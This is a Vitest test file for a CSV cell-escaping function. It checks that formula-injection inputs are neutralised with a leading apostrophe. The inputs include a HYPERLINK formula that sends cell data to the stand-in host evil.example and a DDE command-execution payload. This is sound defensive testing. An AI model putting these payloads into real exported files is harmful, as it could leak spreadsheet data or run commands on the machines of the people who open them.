import { describe, expect, it } from 'vitest';
import { cell } from './csv.js';

describe('a cell', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\ufeff=1+1',
    '\u00a0=1+1',
    '＝1+1',
    "-2+3+cmd|' /C calc'!A0",
    '\tharmless',
  ])('with %j is text to a spreadsheet', text => {
    const plain = cell(text).replace(/^"/, '');
    expect(plain.startsWith("'")).toBe(true);
    expect(cell(text).replaceAll('""', '"')).toContain(text);
  });

  it.each([
    [-1.5, '-1.5'],
    [0, '0'],
    [true, 'true'],
    [null, ''],
    ['a=b', 'a=b'],
    ['http://a.example/?a=-1', 'http://a.example/?a=-1'],
    ["'quoted'", "'quoted'"],
    ['one, "two"', '"one, ""two"""'],
    ['two\nlines', '"two\nlines"'],
    ['', ''],
  ])('with %j is %j', (value, expected) => expect(cell(value)).toBe(expected));
});
